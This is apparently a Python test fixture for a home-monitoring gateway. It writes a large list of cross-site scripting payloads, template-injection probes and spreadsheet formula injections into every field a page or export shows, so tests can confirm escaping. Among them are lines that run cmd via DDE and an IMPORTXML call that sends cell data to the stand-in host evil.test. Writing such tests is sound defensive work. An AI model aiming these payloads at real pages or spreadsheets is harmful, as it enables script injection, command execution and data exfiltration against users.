"""What somebody might write into a name, a reason or a note to make a page or a spreadsheet do something."""

from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta

from walled_house import Walled

from gateway.domain import Absence, Area, Duty, Grid, Installation, Override, Person, Profile, Reach
from gateway.domain.rota import Holiday, Leave
from gateway.ports import Batch, HubDevice, Quarantined

CALL = "xss({n})"
_TAGS = (
    "<script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</script><script>{c}</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<script/x>{c}</script>",
    "<script src=data:,{c}></script>",
    "<svg><script>{c}</script></svg>",
    "<img src=x onerror={c}>",
    "<img/src='x'/onerror={c}>",
    '<img src="x`<script>{c}</script>"` `>',
    "<svg onload={c}>",
    "<svg/onload={c}//",
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<body onload={c}>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<iframe srcdoc='<script>parent.{c}</script>'>",
    "<iframe src=javascript:parent.{c}>",
    "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>",
    "<a href=javascript:{c} id=x>x</a>",
    "<form action=javascript:{c}><button>x</button></form>",
    "<button formaction=javascript:{c} form=x>x</button>",
    "<math><a xlink:href=javascript:{c}>x</a></math>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=data:,*{{x:{c}}}>",
    "<style>@import 'javascript:{c}';</style>",
    "<style onload={c}></style>",
    "<marquee onstart={c}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>",
    "<!--><script>{c}</script>-->",
    "<![CDATA[><script>{c}</script>]]>",
    "<?xml version='1.0'?><script>{c}</script>",
    "<x onclick={c} tabindex=1 autofocus onfocus={c}>",
    "<div hx-get=/logout hx-trigger=load hx-on:load={c}>",
    "<div hx-on::after-request={c} hx-get=/ hx-trigger=load></div>",
    "<div data-hx-on:click={c}></div>",
    "<dialog open oncancel={c}></dialog>",
)
_ATTRIBUTES = (
    '" onmouseover={c} x="',
    "' onmouseover={c} x='",
    '" autofocus onfocus={c} x="',
    "' autofocus onfocus={c} x='",
    '"><script>{c}</script>',
    "'><script>{c}</script>",
    '"><img src=x onerror={c}>',
    "'><img src=x onerror={c}>",
    '" style="x:expression({c})',
    '" hx-on:load="{c}',
    '" srcdoc="<script>{c}</script>',
    "x onerror={c}",
    "` onmouseover={c} `",
    '"/onmouseover={c}//',
    "\"'><svg/onload={c}>",
    '" accesskey=x onclick={c} "',
    '" formaction="javascript:{c}',
)
_ADDRESSES = (
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    " javascript:{c}",
    "java\tscript:{c}",
    "\x01javascript:{c}",
    "javascript://%0a{c}",
    "data:text/html,<script>{c}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "vbscript:{c}",
    "//evil.test/{n}",
    "https://evil.test/{n}",
    "/\\evil.test/{n}",
)
_ENTITIES = (
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "&#x3c;img src=x onerror={c}&#x3e;",
    "&quot; onmouseover={c} &quot;",
    "&amp;lt;script&amp;gt;{c}",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{c}",
    "＜script＞{c}＜/script＞",
    "<\u200bscript>{c}</script>",
    "<scr\x00ipt>{c}</scr\x00ipt>",
    "\u2028<script>{c}</script>",
    "\u202e<script>{c}</script>",
)
_WRITTEN_INTO_CODE = (
    "'-{c}-'",
    '"-{c}-"',
    "\\'-{c}//",
    '\\";{c}//',
    "${{{c}}}",
    "`${{{c}}}`",
    "*/{c}/*",
    "]]>{c}",
    "{{{{ {c} }}}}",
    "{{% print {c} %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "#{{{c}}}",
    "<%= {c} %>",
    "{c};//",
    "');{c};//",
    '"}});{c};//',
    "{{name.__init__.__globals__}}",
)

PAYLOADS = tuple(
    text.format(c=CALL.format(n=number), n=number)
    for number, text in enumerate((*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_ENTITIES, *_WRITTEN_INTO_CODE))
)
"""Each calls `xss` with its number, where a browser would."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1;=2+2",
    '","=1+1',
    '"\r\n=1+1',
    '=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    "＝1+1",
)


def poison(rig: Walled, text: Callable[[str], str]) -> None:
    """Write into every field of this side of the wall that a page shows; past the registrar, as an import might."""
    now, registry = rig.clock.now(), rig.registry
    home = registry.home("h1")
    rooms = tuple(replace(room, name=text(f"room {room.id}")) for room in home.rooms)
    sensors = tuple(replace(one, name=text(f"sensor {one.id}"), model=text("model")) for one in home.sensors)
    with registry.begin() as ledger:
        ledger.put_area(Area(code="1101", name=text("area"), level="community", parent="1100"), now)
        ledger.put_grid(Grid(code="g1", name=text("grid"), community="1101"))
        ledger.put_home(
            replace(
                home,
                name=text("home"),
                code=text("code"),
                address=text("address"),
                access=text("access"),
                rooms=rooms,
                sensors=sensors,
            ),
            now,
        )
        for person in ("wang", "wei", "liu", "he", "ma", "chief", "ins", "vol"):
            reaches = (Reach(channel="console", address=text("way")),)
            ledger.put_person(Person(id=person, name=text(f"person {person}"), reaches=reaches), now)
        ledger.put_phones("wei", [text("phone")], now)
        ledger.assign("ins", Duty.INSTALLER, "g1", now)
        ledger.put_profile(
            Profile(person="wang", conditions=text("ill"), dialect=text("dialect"), hospital=text("hospital")), now
        )
        for key, value in (("absence", Absence.HOLIDAY.value), ("visit", "mon 09:00-11:00"), ("risk", "yes")):
            ledger.put_override(
                Override(
                    home="h1",
                    key=key,
                    value=value,
                    since=now - timedelta(hours=1),
                    until=now + timedelta(days=1),
                    author="liu",
                    reason=text(f"reason {key}"),
                )
            )
        ledger.put_holiday(Holiday(day=now.date(), place="g1", name=text("holiday")))
        ledger.put_leave(Leave(person="he", since=now, until=now + timedelta(days=2), reason=text("leave")))
        ledger.note_installation(
            Installation(home="h1", sensor="h1-m", at=now, by="ins", passed=True, note=text("installation"))
        )
    rig.readings.commit(
        Batch(
            devices=[HubDevice("hub-1", text("address"), text("device"), text("device model"), text("vendor"))],
            quarantined=[
                Quarantined(text("topic"), "unknown-device", now, 9, text("head").encode(), "hub-1", text("detail"))
            ],
        )
    )
    rig.account("li1", Duty.GRID_WORKER, "g1")
    rig.keeper.open(rig.accounts.account("li1"), text("browser"))
    rig.keeper.open(rig.accounts.account("chief"), text("browser"))
    rig.desk.note(rig.own.id, "liu", text("note"), now)
